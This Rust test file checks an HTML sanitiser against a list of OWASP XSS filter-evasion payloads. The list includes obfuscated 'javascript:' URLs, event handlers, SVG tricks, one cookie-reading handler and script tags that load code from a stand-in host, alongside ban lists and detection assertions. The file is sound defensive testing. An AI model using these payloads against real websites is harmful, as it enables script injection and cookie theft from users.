//! The rich-text sanitiser (form post-submit HTML, text blocks) against the OWASP
//! filter-evasion cheat sheet: no script, no event handler, no `javascript:` (however
//! it is spelt), no SVG or MathML; and cleaning twice changes nothing.

use veranda_actors::site::sanitize::{embed, rich_text};

/// Classic payloads from the OWASP XSS filter-evasion cheat sheet.
pub const PAYLOADS: &[&str] = &[
    r#"<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>"#,
    r#"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"#,
    r#"<IMG SRC="javascript:alert('XSS');">"#,
    r#"<IMG SRC=javascript:alert('XSS')>"#,
    r#"<IMG SRC=JaVaScRiPt:alert('XSS')>"#,
    r#"<IMG SRC=javascript:alert(&quot;XSS&quot;)>"#,
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    r#"<a onmouseover="alert(document.cookie)">xxs link</a>"#,
    r#"<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>"#,
    r#"<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"#,
    r#"<IMG SRC=# onmouseover="alert('xxs')">"#,
    r#"<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>"#,
    r#"<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">"#,
    r#"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>"#,
    r#"<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>"#,
    "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    r#"<a href="jav&#x09;ascript:alert('XSS');">x</a>"#,
    r#"<a href="jav&#x0A;ascript:alert('XSS');">x</a>"#,
    r#"<a href="jav&#x0D;ascript:alert('XSS');">x</a>"#,
    r#"<a href=" &#14;  javascript:alert('XSS');">x</a>"#,
    r#"<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>"#,
    r#"<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>"#,
    r#"<<SCRIPT>alert("XSS");//\<</SCRIPT>"#,
    r#"<SCRIPT SRC=http://xss.example/xss.js?< B >"#,
    r#"</TITLE><SCRIPT>alert("XSS");</SCRIPT>"#,
    r#"<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">"#,
    r#"<BODY BACKGROUND="javascript:alert('XSS')">"#,
    r#"<IMG DYNSRC="javascript:alert('XSS')">"#,
    r#"<svg/onload=alert('XSS')>"#,
    r#"<svg><script>alert(1)</script></svg>"#,
    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
    r#"<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>"#,
    r#"<IFRAME SRC="javascript:alert('XSS');"></IFRAME>"#,
    r#"<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>x</td></tr></TABLE>"#,
    r#"<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">"#,
    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
    r#"<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>"#,
    r#"<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">"#,
    r#"<form><button formaction=javascript:alert(1)>x</button></form>"#,
    r#"<details open ontoggle=alert(1)>x</details>"#,
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
    r#"<BASE HREF="javascript:alert('XSS');//">"#,
    r#"<a href="vbscript:msgbox('XSS')">x</a>"#,
    r#"<img src="x" style="x:expression(alert('XSS'))">"#,
];

/// The element names and attributes `(name, value)` of every tag in `html`. The
/// sanitiser escapes every `<` that does not open a tag, so each `<` starts one.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    for tag in html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or(rest)) {
        let tag = tag.trim_start_matches('/');
        let name_end = tag.find(|c: char| c.is_whitespace() || c == '/').unwrap_or(tag.len());
        let name = tag[..name_end].to_lowercase();
        let mut attributes = Vec::new();
        let mut rest = &tag[name_end..];
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
            if rest.is_empty() {
                break;
            }
            let end = rest.find(|c: char| c.is_whitespace() || c == '=').unwrap_or(rest.len());
            let attribute = rest[..end].to_lowercase();
            rest = rest[end..].trim_start();
            let mut value = String::new();
            if let Some(after) = rest.strip_prefix('=') {
                let after = after.trim_start();
                let (v, remaining) = match after.chars().next() {
                    Some(q @ ('"' | '\'')) => {
                        let close = after[1..].find(q).map(|i| i + 1).unwrap_or(after.len());
                        (&after[1..close], after.get(close + 1..).unwrap_or(""))
                    }
                    _ => {
                        let end = after.find(char::is_whitespace).unwrap_or(after.len());
                        (&after[..end], &after[end..])
                    }
                };
                value = v.to_string();
                rest = remaining;
            }
            attributes.push((attribute, value));
        }
        out.push((name, attributes));
    }
    out
}

/// A URL the way a browser reads its scheme: tabs and newlines removed anywhere, leading
/// spaces and control characters dropped, entities for them decoded, lowercased.
fn url_as_browsers_read_it(value: &str) -> String {
    let decoded = value.replace("&#x09;", "\t").replace("&#x0A;", "\n").replace("&#x0D;", "\r").replace("&amp;", "&");
    let no_breaks: String = decoded.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    no_breaks.trim_start_matches(|c: char| c <= ' ').to_lowercase()
}

const BANNED_ELEMENTS: &[&str] =
    &["script", "svg", "math", "style", "iframe", "object", "embed", "meta", "base", "form", "body", "link"];
const BANNED_ATTRIBUTES: &[&str] = &["style", "formaction", "background", "dynsrc", "srcdoc", "xlink:href"];

fn assert_harmless(input: &str, output: &str) {
    for (element, attributes) in tags(output) {
        assert!(!BANNED_ELEMENTS.contains(&element.as_str()), "<{element}> survived {input:?}: {output}");
        for (name, value) in attributes {
            assert!(!name.starts_with("on"), "event handler {name} survived {input:?}: {output}");
            assert!(!BANNED_ATTRIBUTES.contains(&name.as_str()), "{name} survived {input:?}: {output}");
            let url = url_as_browsers_read_it(&value);
            for scheme in ["javascript:", "vbscript:", "data:"] {
                assert!(!url.starts_with(scheme), "{scheme} in {name} survived {input:?}: {output}");
            }
        }
    }
}

#[test]
fn filter_evasion_payloads_are_defused() {
    for payload in PAYLOADS {
        assert_harmless(payload, &rich_text(payload));
        assert_harmless(payload, &embed(payload));
    }
}

#[test]
fn payloads_hidden_inside_allowed_markup_are_defused_too() {
    for payload in PAYLOADS {
        let wrapped = format!("<p>Thanks! <strong>{payload}</strong> <a href=\"/next\">next</a></p>");
        let clean = rich_text(&wrapped);
        assert_harmless(&wrapped, &clean);
        assert!(clean.starts_with("<p>Thanks! <strong>"), "allowed markup stays: {clean}");
    }
}

#[test]
fn sanitising_is_idempotent() {
    let everything = PAYLOADS.concat();
    for input in PAYLOADS.iter().copied().chain([everything.as_str()]) {
        let once = rich_text(input);
        assert_eq!(rich_text(&once), once, "rich text of {input:?}");
        let once = embed(input);
        assert_eq!(embed(&once), once, "embed of {input:?}");
    }
}

#[test]
fn the_checks_catch_what_they_look_for() {
    // The assertions above would see a payload that got through.
    assert!(std::panic::catch_unwind(|| assert_harmless("x", "<img src=\"x\" onerror=\"alert(1)\">")).is_err());
    assert!(std::panic::catch_unwind(|| assert_harmless("x", "<a href=\"JavaScript:alert(1)\">x</a>")).is_err());
    assert!(std::panic::catch_unwind(|| assert_harmless("x", "<svg></svg>")).is_err());
    assert!(std::panic::catch_unwind(|| assert_harmless("x", "<a href=\" java&#x09;script:x\">x</a>")).is_err());
    assert_harmless("x", "<img src=\"`javascript:alert(1)\"><p>javascript: is text here</p>");
}
